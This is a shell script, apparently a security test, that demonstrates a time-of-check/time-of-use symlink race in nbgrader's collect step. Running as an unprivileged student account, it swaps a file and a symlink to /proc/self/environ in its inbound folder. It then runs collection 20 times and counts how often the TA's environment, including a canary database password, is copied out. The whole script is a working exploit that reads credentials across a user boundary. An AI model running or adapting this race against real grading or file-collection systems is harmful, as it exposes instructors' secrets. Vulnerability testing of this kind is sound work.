#!/bin/sh
# a20: TOCTOU in SafeCollect.do_copy: ignore() lstat()s each name, then shutil.copytree (symlinks=True) checks
# islink() again and copy2() opens the name, following a link. mallory (here uid 65534, owner of her inbound folder)
# swaps a file and a link to /proc/self/environ (the collecting process's, the TA's) with rename() in a loop while the
# TA collects (20 tries). Any collected file holding the canary = a link followed as the TA.
D=/tmp/attack38-root-a20; rm -rf $D; mkdir -p $D; cp CLONE/nbgrader_config.py $D/; cp -r CLONE/source CLONE/release $D/
IN=$D/exchange/distcourse/inbound; mkdir -p $IN; chmod 755 $D $D/exchange $D/exchange/distcourse $IN
M="$IN/mallory+ps1_memory+2024-01-01 00:00:00.000000 UTC+m1"; mkdir -p "$M"; chown 65534:65534 "$M"
cp CLONE/release/ps1_memory/ps1_memory.ipynb "$M/"; chown 65534 "$M/ps1_memory.ipynb"
setpriv --reuid 65534 --regid 65534 --clear-groups python3 -c "
import os, time
d = '$M'; t = time.time()
while time.time() - t < 40:
    try: os.symlink('/proc/self/environ', d + '/.l'); os.rename(d + '/.l', d + '/x.txt')
    except OSError: pass
    try: open(d + '/.f', 'w').write('x'); os.rename(d + '/.f', d + '/x.txt')
    except OSError: pass
" &
R=$!
hits=0
for i in $(seq 1 20); do
  rm -rf $D/submitted
  (cd $D && PATH=CLONE/.venv/bin:$PATH DATABASE_URL=postgresql://ta:secret@localhost/x timeout 60 CLONE/.venv/bin/nbgrader collect ps1_memory --Exchange.root=$D/exchange --ExchangeCollect.check_owner=False >/dev/null 2>&1)
  f=$D/submitted/mallory/ps1_memory/x.txt
  if [ -f "$f" ] && [ ! -L "$f" ] && grep -q "ta:secret" "$f"; then hits=$((hits+1)); echo "try $i: canary in collected x.txt: $(tr '\0' '\n' < $f | grep DATABASE_URL)"; fi
done
kill $R 2>/dev/null; wait $R 2>/dev/null
echo "tries with the TA's environment collected: $hits of 20"
